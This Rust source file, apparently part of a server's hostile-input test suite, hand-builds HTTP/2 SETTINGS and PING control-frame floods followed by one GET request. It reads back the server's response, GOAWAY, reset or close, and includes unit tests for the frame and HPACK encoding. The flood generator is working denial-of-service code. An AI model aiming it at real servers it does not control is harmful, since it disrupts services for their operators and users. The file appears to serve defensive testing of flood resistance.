//! The HTTP/2 frames of the control-frame floods, written by hand: no HTTP/2 client sends
//! thousands of SETTINGS or PINGs. Only what the floods need: the frame header (RFC 9113,
//! 4.1), empty SETTINGS, PING, and one `GET` whose header block uses the static table and
//! plain literals (RFC 7541), no Huffman and no dynamic table.

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};

use crate::hostile::outcome::Outcome;
use crate::hostile::raw;

/// The client connection preface.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frame types.
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
/// Flags.
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const PADDED: u8 = 0x8;
const PRIORITY: u8 = 0x20;
/// Largest frame payload read back (the server's default SETTINGS_MAX_FRAME_SIZE).
const MAX_FRAME: usize = 16_384;

/// The control frame a flood repeats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Control {
    /// An empty SETTINGS frame (each must be acknowledged).
    Settings,
    /// A PING (each must be answered).
    Ping,
}

/// Appends a frame: 24-bit length, type, flags, 31-bit stream id, payload.
fn push_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).expect("frames of the floods are small");
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// Appends an HPACK integer with an `n`-bit prefix whose high bits are `first` (RFC 7541, 5.1).
fn push_int(out: &mut Vec<u8>, first: u8, n: u32, value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// The header block of `GET https://authority/path`: `:method GET` and `:scheme https`
/// indexed, `:path` and `:authority` literal without indexing, names from the static table.
fn get_block(path: &str, authority: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x87];
    for (index, value) in [(4, path), (1, authority)] {
        push_int(&mut b, 0x00, 4, index);
        push_int(&mut b, 0x00, 7, value.len());
        b.extend_from_slice(value.as_bytes());
    }
    b
}

/// The bytes of a flood: the preface, an empty SETTINGS, `count` control frames, then
/// `GET path` on stream 1.
pub(crate) fn flood_bytes(frame: Control, count: usize, path: &str, authority: &str) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    push_frame(&mut out, SETTINGS, 0, 0, &[]);
    for i in 0..count {
        match frame {
            Control::Settings => push_frame(&mut out, SETTINGS, 0, 0, &[]),
            Control::Ping => push_frame(&mut out, PING, 0, 0, &(i as u64).to_be_bytes()),
        }
    }
    let block = get_block(path, authority);
    push_frame(&mut out, HEADERS, END_STREAM | END_HEADERS, 1, &block);
    out
}

/// Sends the flood on `io` while reading what comes back: the outcome of the request on
/// stream 1 (its status), or of the connection (GOAWAY, close).
pub(crate) async fn flood<S>(
    io: S,
    frame: Control,
    count: usize,
    path: &str,
    authority: &str,
) -> Outcome
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let bytes = flood_bytes(frame, count, path, authority);
    let (mut rd, mut wr) = tokio::io::split(io);
    let write = async {
        // a refused connection stops reading: what it says is read on the other side
        if wr.write_all(&bytes).await.is_ok() {
            let _ = wr.flush().await;
        }
        std::future::pending::<()>().await;
    };
    tokio::select! {
        o = answer(&mut rd) => o,
        () = write => unreachable!("the writer never ends"),
    }
}

/// Reads frames until one decides stream 1: its HEADERS (the status), its RST_STREAM, a
/// GOAWAY, or the end of the connection.
async fn answer<R: AsyncRead + Unpin>(rd: &mut R) -> Outcome {
    let mut head = [0u8; 9];
    let mut payload = Vec::new();
    loop {
        if let Err(e) = rd.read_exact(&mut head).await {
            return match e.kind() {
                std::io::ErrorKind::UnexpectedEof => Outcome::Closed,
                _ => raw::io_outcome(&e),
            };
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let (kind, flags) = (head[3], head[4]);
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
        if len > MAX_FRAME {
            return Outcome::BadResponse;
        }
        payload.resize(len, 0);
        if let Err(e) = rd.read_exact(&mut payload).await {
            return raw::io_outcome(&e);
        }
        match (kind, stream) {
            (GOAWAY, 0) if len >= 8 => return Outcome::H2GoAway(word(&payload[4..8])),
            (RST_STREAM, 1) if len >= 4 => return Outcome::H2Reset(word(&payload[..4])),
            (HEADERS, 1) => return status(&payload, flags),
            _ => {}
        }
    }
}

fn word(b: &[u8]) -> u32 {
    u32::from_be_bytes([b[0], b[1], b[2], b[3]])
}

/// The `:status` of a response HEADERS payload when the server sent it from the static
/// table (as it does for 200, 204, 206, 304, 400, 404, 500); any other first field is an
/// answer this reader cannot name.
fn status(payload: &[u8], flags: u8) -> Outcome {
    let mut at = 0;
    if flags & PADDED != 0 {
        at += 1;
    }
    if flags & PRIORITY != 0 {
        at += 5;
    }
    const STATIC: [u16; 7] = [200, 204, 206, 304, 400, 404, 500];
    match payload.get(at) {
        Some(&b) if (0x88..=0x8e).contains(&b) => Outcome::Status(STATIC[usize::from(b - 0x88)]),
        _ => Outcome::BadResponse,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_flood_is_the_preface_the_frames_and_one_request() {
        let b = flood_bytes(Control::Settings, 3, "/x", "h:1");
        assert!(b.starts_with(PREFACE));
        let frames = &b[PREFACE.len()..];
        // four empty SETTINGS, then HEADERS on stream 1
        for i in 0..4 {
            assert_eq!(
                &frames[i * 9..i * 9 + 9],
                &[0, 0, 0, SETTINGS, 0, 0, 0, 0, 0]
            );
        }
        let h = &frames[36..];
        let block = [0x82, 0x87, 0x04, 2, b'/', b'x', 0x01, 3, b'h', b':', b'1'];
        assert_eq!(
            &h[..9],
            &[0, 0, 11, HEADERS, END_STREAM | END_HEADERS, 0, 0, 0, 1]
        );
        assert_eq!(&h[9..], &block);
        let pings = flood_bytes(Control::Ping, 2, "/", "h");
        // the empty SETTINGS, then pings of 8 bytes (their index), then the request
        let second = &pings[PREFACE.len() + 9 + 17..][..17];
        assert_eq!(&second[..9], &[0, 0, 8, PING, 0, 0, 0, 0, 0]);
        assert_eq!(&second[9..], &1u64.to_be_bytes());
    }

    #[test]
    fn long_values_take_a_multi_byte_length() {
        let mut out = Vec::new();
        push_int(&mut out, 0x00, 7, 1337);
        assert_eq!(out, [0x7f, 0xba, 0x09]); // 127 + 1210: 1210 = 0x3a + 0x80, then 9
        let block = get_block(&"/a".repeat(100), "h");
        assert_eq!(&block[2..6], &[0x04, 0x7f, 73, b'/']);
    }

    #[tokio::test]
    async fn the_answer_is_read_from_frames() {
        let mut wire = Vec::new();
        push_frame(&mut wire, SETTINGS, 0, 0, &[]);
        push_frame(&mut wire, SETTINGS, 1, 0, &[]);
        push_frame(&mut wire, HEADERS, END_HEADERS, 1, &[0x88]);
        assert_eq!(answer(&mut wire.as_slice()).await, Outcome::Status(200));
        let mut wire = Vec::new();
        push_frame(&mut wire, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
        assert_eq!(answer(&mut wire.as_slice()).await, Outcome::H2GoAway(11));
        let mut wire = Vec::new();
        push_frame(&mut wire, RST_STREAM, 0, 1, &[0, 0, 0, 7]);
        assert_eq!(answer(&mut wire.as_slice()).await, Outcome::H2Reset(7));
        assert_eq!(answer(&mut [].as_slice()).await, Outcome::Closed);
        let mut padded = Vec::new();
        push_frame(&mut padded, HEADERS, END_HEADERS | PADDED, 1, &[1, 0x8d, 0]);
        assert_eq!(answer(&mut padded.as_slice()).await, Outcome::Status(404));
    }
}
